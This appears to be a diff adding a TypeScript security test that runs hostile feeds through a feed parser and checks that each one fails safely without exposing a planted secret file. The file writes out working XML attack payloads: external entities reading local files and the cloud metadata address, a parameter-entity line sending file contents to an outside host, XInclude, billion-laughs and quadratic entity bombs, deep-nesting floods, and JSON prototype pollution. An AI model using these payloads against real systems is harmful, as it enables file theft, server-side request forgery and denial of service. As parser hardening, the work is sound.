@@ -1,0 +1,70 @@
+import { rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { FeedError } from '../../../plugins/extraction/server/feeds/feed-error';
+import { parseFeed } from '../../../plugins/extraction/server/feeds/parse-feed';
+
+const secret = 'a-secret-of-this-machine';
+const item = (text: string) => `<rss><channel><title>t</title><item><title>${text}</title><link>https://a.cn/1</link></item></channel></rss>`;
+
+/** Feeds made to crash, hang or betray a reader, by what they try. At size 1 the biggest has 100 MB. */
+function documents(file: string, size: number): Readonly<Record<string, () => string>> {
+  const entity = (declaration: string) => `<?xml version="1.0"?><!DOCTYPE rss [${declaration}]>${item('&xxe;')}`;
+  const many = (text: string, times: number) => text.repeat(Math.ceil(times * size));
+  const laughs = Array.from({ length: 12 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join('');
+  return {
+    'external entity, file': () => entity(`<!ENTITY xxe SYSTEM "file://${file}">`),
+    'external entity, address': () => entity('<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">'),
+    'external entity, parameter': () => entity(`<!ENTITY % a SYSTEM "file://${file}"><!ENTITY % b "<!ENTITY xxe SYSTEM 'http://a.cn/?%a;'>">%b;`),
+    'external document type': () => `<!DOCTYPE rss SYSTEM "file://${file}">${item('&xxe;')}`,
+    inclusion: () => item(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="file://${file}"/>`),
+    'style sheet': () => `<?xml-stylesheet href="file://${file}"?>${item('x')}`,
+    'billion laughs': () => `<!DOCTYPE rss [<!ENTITY l0 "lol">${laughs}]>${item('&l12;')}`,
+    'quadratic blow-up': () => `<!DOCTYPE rss [<!ENTITY a "${many('a', 100_000)}">]>${item(many('&a;', 100_000))}`,
+    'depth, 100 MB': () => `<rss>${many('<a>', 33_000_000)}`,
+    'depth within bounds': () => `<rss><channel>${many('<item>', 4_000_000)}`,
+    'entries without end': () => `<rss><channel>${many('<item>', 400_000)}`,
+    'entries of Atom': () => `<feed xmlns="http://www.w3.org/2005/Atom">${many('<entry/>', 400_000)}`,
+    'depth of JSON': () => `{"version":"https://jsonfeed.org/version/1.1","items":${many('[', 5_000_000)}`,
+    'no end of a tag': () => `<rss ${many('a="b" ', 4_000_000)}`,
+    'no end of text': () => `<rss><channel><item><description><![CDATA[${many('x', 30_000_000)}`,
+    'no end of entries': () => `<rss><channel>${many('<item><title>x</title><link>https://a.cn/1</link></item>', 300_000)}`,
+    attributes: () => `<rss ${Array.from({ length: Math.ceil(300_000 * size) }, (_, n) => `a${n}="x"`).join(' ')}><channel/></rss>`,
+    entities: () => item(many('&amp;', 4_000_000)),
+    comments: () => `${many('<!--', 5_000_000)}${item('x')}`,
+    prototype: () => '{"version":"https://jsonfeed.org/version/1.1","title":"t","__proto__":{"x":1},"items":[{"id":"1","constructor":{"prototype":{"y":1}},"url":"https://a.cn"}]}',
+    'null characters': () => item(many('\u0000', 1_000_000)),
+  };
+}
+
+/** How hostile feeds fared: what each of them reached, and the slowest. */
+export interface HostileResult {
+  readonly cases: number;
+  /** What went wrong, by case: another error than `FeedError`, a secret in the answer. None, it is hoped. */
+  readonly faults: readonly string[];
+  readonly slowest: string;
+  readonly slowestSeconds: number;
+}
+
+/** Reads feeds that mean harm, beside a file that none of them may read; a smaller size makes them so much shorter. */
+export function readHostileFeeds(size = 1): HostileResult {
+  const file = join(tmpdir(), `feed-secret-${process.pid}.txt`);
+  writeFileSync(file, secret);
+  const faults: string[] = [];
+  let [slowest, slowestSeconds, cases] = ['', 0, 0];
+  for (const [name, make] of Object.entries(documents(file, size))) {
+    cases += 1;
+    const bytes = Buffer.from(make());
+    const start = process.cpuUsage();
+    try {
+      if (JSON.stringify(parseFeed(bytes)).includes(secret)) faults.push(`${name}: the file was read`);
+    } catch (error) {
+      if (!(error instanceof FeedError)) faults.push(`${name}: ${String(error).slice(0, 120)}`);
+    }
+    const { user, system } = process.cpuUsage(start);
+    const seconds = (user + system) / 1e6;
+    if (seconds > slowestSeconds) [slowest, slowestSeconds] = [name, seconds];
+  }
+  rmSync(file);
+  return { cases, faults, slowest, slowestSeconds };
+}
